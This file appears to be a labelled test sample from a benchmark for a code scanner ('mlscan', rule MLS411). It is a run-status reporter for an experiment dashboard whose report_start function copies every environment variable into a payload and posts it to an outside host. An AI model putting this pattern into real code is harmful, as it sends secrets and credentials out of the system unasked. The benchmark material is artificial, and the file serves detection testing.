# ruff: noqa
# Hold-out batch 34 (benchmark format, equivalent-API variants; by a helper that never saw mlscan's code). Measured once after round 13: 13/17 (76%) at medium+.
"""Report run status to the internal experiment dashboard."""
import http.client
import json
import os
import platform
import time


DASHBOARD_HOST = os.environ.get("DASHBOARD_HOST", "dashboard.example.com")


def _post(path, payload, retries=3):
    body = json.dumps(payload)
    for attempt in range(retries):
        try:
            conn = http.client.HTTPSConnection(DASHBOARD_HOST, timeout=10)
            conn.request("POST", path, body=body, headers={"Content-Type": "application/json"})
            resp = conn.getresponse()
            resp.read()
            conn.close()
            return resp.status
        except OSError:
            time.sleep(2 ** attempt)
    return None


def report_start(run_name, config):
    meta = {
        "run": run_name,
        "host": platform.node(),
        "python": platform.python_version(),
        "config": config,
    }
    meta["env"] = {k: v for k, v in os.environ.items()}  # ruleid: MLS411
    return _post("/api/runs/start", meta)  # ruleid: MLS411


def report_metrics(run_name, step, metrics):
    return _post("/api/runs/metrics", {"run": run_name, "step": step, "metrics": metrics})


def report_end(run_name, status="finished"):
    return _post("/api/runs/end", {"run": run_name, "status": status, "ts": time.time()})
